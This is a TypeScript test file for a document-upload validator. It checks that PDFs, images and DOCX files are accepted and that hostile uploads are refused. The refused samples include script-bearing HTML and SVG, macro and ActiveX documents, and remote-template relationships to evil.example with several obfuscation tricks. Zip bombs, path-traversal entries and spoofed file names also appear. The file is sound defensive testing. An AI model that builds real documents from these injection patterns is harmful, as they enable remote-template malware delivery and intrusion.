import fc from 'fast-check'
import { expect, test } from 'vitest'
import { ProblemError } from '../problem.ts'
import { docxWith, JPEG, PDF, PNG, realDocx, zipOf, type Part } from './archives.fixture.ts'
import { MOST_UPLOAD } from './limits.ts'
import { checkUpload, cleanedName, UPLOADS, type UploadType } from './upload-check.ts'
import { entriesOf, MOST_ENTRIES, MOST_UNPACKED } from './zip-check.ts'

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const refusal = (bytes: Buffer, name = 'файл', claimed?: string) =>
  checkUpload(bytes, { name, claimed }).then(
    () => 'taken',
    (error: unknown) => (error instanceof ProblemError ? error.code : String(error)),
  )
const rels = (body: string): Part => ({ name: 'word/_rels/document.xml.rels', content: `<Relationships>${body}</Relationships>` })
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

test('PDF, JPEG, PNG and DOCX are taken for what they are, with a name of ours', async () => {
  expect(await checkUpload(PDF, { name: 'Заключение №5.PDF', claimed: 'application/pdf' })).toEqual({
    type: 'application/pdf',
    name: 'Заключение-5.pdf',
  })
  expect(await checkUpload(JPEG, { name: 'C:\\сканы\\лист.jpeg' })).toEqual({ type: 'image/jpeg', name: 'лист.jpg' })
  expect(await checkUpload(PNG, { name: '../../etc/passwd', claimed: 'application/octet-stream' })).toEqual({
    type: 'image/png',
    name: 'passwd.png',
  })
  expect(await checkUpload(await realDocx(), { name: 'решение.docx', claimed: DOCX })).toEqual({ type: DOCX, name: 'решение.docx' })
  expect(await refusal(docxWith())).toBe('taken')
})

test.each([
  ['nothing', Buffer.alloc(0), 'file-empty'],
  ['a text', Buffer.from('просто текст'), 'file-type'],
  ['a page', Buffer.from('<!doctype html><script>alert(1)</script>'), 'file-type'],
  ['a picture of lines, which may hold scripts', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), 'file-type'],
  ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]), 'file-type'],
  ['a plain zip', zipOf([{ name: 'a.txt', content: 'a' }]), 'file-type'],
  ['half a PDF', PDF.subarray(0, 40), 'file-broken'],
])('%s is refused', async (_, bytes, code) => {
  expect(await refusal(bytes)).toBe(code)
})

test('ten megabytes are taken, a byte more is not', async () => {
  const ofSize = (size: number) => Buffer.concat([PDF.subarray(0, 9), Buffer.alloc(size - PDF.length, 0x20), PDF.subarray(9)])
  expect(await refusal(ofSize(MOST_UPLOAD))).toBe('taken')
  expect(await refusal(ofSize(MOST_UPLOAD + 1))).toBe('file-too-large')
})

test.each([
  ['a.pdf', 'image/png', PNG],
  ['a.png', 'application/pdf', PNG],
  ['a.pdf.exe', undefined, PDF],
  ['a.docm', undefined, docxWith()],
  ['a', 'text/html', PDF],
])('%s sent as %s is not what its name says', async (name, claimed, bytes) => {
  expect(await refusal(bytes, name, claimed)).toBe('file-not-as-named')
})

test.each<[string, Buffer]>([
  ['macros', docxWith({ name: 'word/vbaProject.bin', content: 'x' })],
  ['macros in another case', docxWith({ name: 'WORD/VBAPROJECT.BIN', content: 'x' })],
  ['a control', docxWith({ name: 'word/activeX/activeX1.xml', content: 'x' })],
  ['an embedded object', docxWith({ name: 'word/embeddings/oleObject1.bin', content: 'x' })],
  [
    'a template of another address',
    docxWith(rels(`<Relationship Id="r" Type="${OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`)),
  ],
  [
    'a picture of another address',
    docxWith(rels(`<Relationship TargetMode = 'External' Id="r" Type="${OFFICE}/image" Target="http://evil.example/p.png"/>`)),
  ],
  [
    'the type of a document with macros',
    zipOf([
      {
        name: '[Content_Types].xml',
        content:
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
      { name: 'word/document.xml', content: '<w:document/>' },
    ]),
  ],
])('a document with %s is refused', async (_, bytes) => {
  expect(await refusal(bytes)).toMatch(/^file-(harmful|type)$/)
})

test('a link to an address is no harm, nor a table within', async () => {
  expect(
    await refusal(docxWith(rels(`<Relationship Id="r" Type="${OFFICE}/hyperlink" Target="https://adilet.zan.kz" TargetMode="External"/>`))),
  ).toBe('taken')
  expect(await refusal(docxWith({ name: 'word/embeddings/table.xlsx', content: 'x' }))).toBe('taken')
})

const TEMPLATE = `Type="${OFFICE}/attachedTemplate"`
const outside = (text: string): Buffer => docxWith({ name: 'word/_rels/settings.xml.rels', content: text })
const one = (attributes: string) => `<Relationships><Relationship Id="r" ${attributes}/></Relationships>`
test.each<[string, Buffer]>([
  ['names a link in its address', outside(one(`${TEMPLATE} Target="http://evil.example/relationships/hyperlink" TargetMode="External"`))],
  ['closes its tag early', outside(one(`${TEMPLATE} Target="http://evil.example/>t.dotm" TargetMode="External"`))],
  ['spells its mode by numbers', outside(one(`${TEMPLATE} Target="http://evil.example/t.dotm" TargetMode="Ext&#101;rnal"`))],
  ['spells its mode small', outside(one(`${TEMPLATE} Target="http://evil.example/t.dotm" TargetMode="external"`))],
  ['says no mode', outside(one(`${TEMPLATE} Target="http://evil.example/t.dotm"`))],
  ['leads to another machine', outside(one(`${TEMPLATE} Target="\\\\evil.example\\t.dotm" TargetMode="Internal"`))],
  ['says its kind twice', outside(one(`${TEMPLATE} Type="${OFFICE}/hyperlink" Target="http://evil.example" TargetMode="External"`))],
  [
    'says a kind like a link',
    outside(one(`Type="http://evil.example/relationships/hyperlink" Target="http://evil.example" TargetMode="External"`)),
  ],
  [
    'has a prefix',
    outside(
      `<a:Relationships xmlns:a="x"><a:Relationship Id="r" ${TEMPLATE} Target="http://evil.example" TargetMode="External"/></a:Relationships>`,
    ),
  ],
  [
    'has words of its own',
    outside(`<!DOCTYPE a [<!ENTITY e "External">]>${one(`${TEMPLATE} Target="http://evil.example" TargetMode="&e;"`)}`),
  ],
  [
    'has another base',
    outside(`<Relationships xml:base="http://evil.example/"><Relationship Id="r" ${TEMPLATE} Target="t.dotm"/></Relationships>`),
  ],
  [
    'is written in UTF-16',
    docxWith({
      name: 'word/_rels/settings.xml.rels',
      content: Buffer.from(`\uFEFF${one(`${TEMPLATE} Target="http://evil.example" TargetMode="External"`)}`, 'utf16le'),
    }),
  ],
  ['says another encoding', outside(`<?xml version="1.0" encoding="UTF-7"?>${one(`${TEMPLATE} Target="t.dotm"`)}`)],
  ['is no list', outside('')],
])('a document whose list of relationships %s is refused', async (_, bytes) => {
  expect(await refusal(bytes)).toBe('file-harmful')
})

test('lists of relationships as programs write them are taken', async () => {
  const NAMESPACE = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
  for (const text of [
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships ${NAMESPACE}><Relationship Id="rId1" Type="${OFFICE}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${OFFICE}/hyperlink" Target="https://adilet.zan.kz/?a=1&amp;b=2" TargetMode="External"/></Relationships>`,
    `\uFEFF<?xml version='1.0' encoding='utf-8'?>\n<Relationships ${NAMESPACE}>\n  <Relationship Type='${OFFICE}/image' Target='/word/media/a.png' Id='a' TargetMode='Internal'></Relationship>\n</Relationships>\n`,
    `<Relationships ${NAMESPACE}/>`,
    one(`Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Target="mailto:a@example.org" TargetMode="External"`),
  ])
    expect(await refusal(outside(text)), text).toBe('taken')
})

const zeros = (n: number) => Buffer.alloc(n)
/** One entry lies within the bytes of another, as in bombs of a few kilobytes. */
function quoting(): Buffer {
  const inner = zipOf([{ name: 'w/b', content: zeros(1_000) }])
  return docxWith({ name: 'w/a', content: inner, method: 0 }, { name: 'w/b', content: zeros(1_000), within: { part: 2, at: 0 } })
}
test.each<[string, () => Buffer]>([
  ['unpacks to more than it promises', () => docxWith({ name: 'word/a.xml', content: zeros(5_000_000), size: 100 })],
  ['unpacks to less than it promises', () => docxWith({ name: 'word/a.xml', content: 'x', size: 100 })],
  ['promises more than may be', () => docxWith({ name: 'word/a.xml', content: 'x', size: MOST_UNPACKED })],
  ['has too many entries', () => docxWith(...Array.from({ length: MOST_ENTRIES - 1 }, (_, n) => ({ name: `w/${n}`, content: '' })))],
  ['lets entries share their bytes', quoting],
  ['leads outside', () => docxWith({ name: 'word/../../x', content: 'x' })],
  ['names one entry twice', () => docxWith({ name: 'word/DOCUMENT.xml', content: 'x' })],
  ['says two names', () => docxWith({ name: 'word/a.xml', localName: 'word/b.xml', content: 'x' })],
  ['is locked', () => docxWith({ name: 'word/a.xml', content: 'x', flags: 1 })],
  ['packs in another way', () => docxWith({ name: 'word/a.xml', content: 'x', method: 12 })],
  ['holds something after its end', () => Buffer.concat([docxWith(), Buffer.from('hidden')])],
  ['ends before its list', () => docxWith().subarray(0, -30)],
])('a document that %s is refused', async (_, make) => {
  expect(await refusal(make())).toMatch(/^file-(broken|type)$/)
})

test('a bomb of ten megabytes is refused without unpacking it', async () => {
  const part = zeros(40_000_000)
  const bomb = docxWith(...Array.from({ length: 40 }, (_, n) => ({ name: `word/${n}.xml`, content: part })))
  const before = process.memoryUsage().rss
  expect(await refusal(bomb)).toBe('file-broken')
  expect(process.memoryUsage().rss - before).toBeLessThan(60_000_000)
})

test('however a document is damaged, it is taken or refused in words, never a fault', async () => {
  const whole = await realDocx()
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 20 }),
      fc.nat(whole.length),
      async (changes, length) => {
        const bytes = Buffer.from(whole.subarray(0, length % 3 === 0 ? length : whole.length))
        for (const [at, value] of changes) if (at < bytes.length) bytes[at] = value
        expect(await refusal(bytes)).toMatch(/^(taken|file-[a-z-]+)$/)
      },
    ),
    { numRuns: 400 },
  )
  expect(() => entriesOf(Buffer.from('PK'))).toThrow('no list')
  expect(() => entriesOf(quoting())).toThrow('overlapping')
})

test('a name of a file is one name of ours, whatever it was', () => {
  fc.assert(
    fc.property(
      fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.constantFrom('..', 'CON', 'a\u202Efdp.exe', '.htaccess', 'x\0.pdf')),
      fc.constantFrom(...(Object.keys(UPLOADS) as UploadType[])),
      (typed, type) => {
        const name = cleanedName(typed, type)
        expect(name).toMatch(new RegExp(`^[\\p{L}\\p{M}\\p{N}_-]+\\.${UPLOADS[type]}$`, 'u'))
        expect(name).not.toMatch(/^(con|prn|aux|nul|com\d|lpt\d)\./i)
        expect(Buffer.byteLength(name)).toBeLessThanOrEqual(450)
      },
    ),
    { numRuns: 1_000 },
  )
})
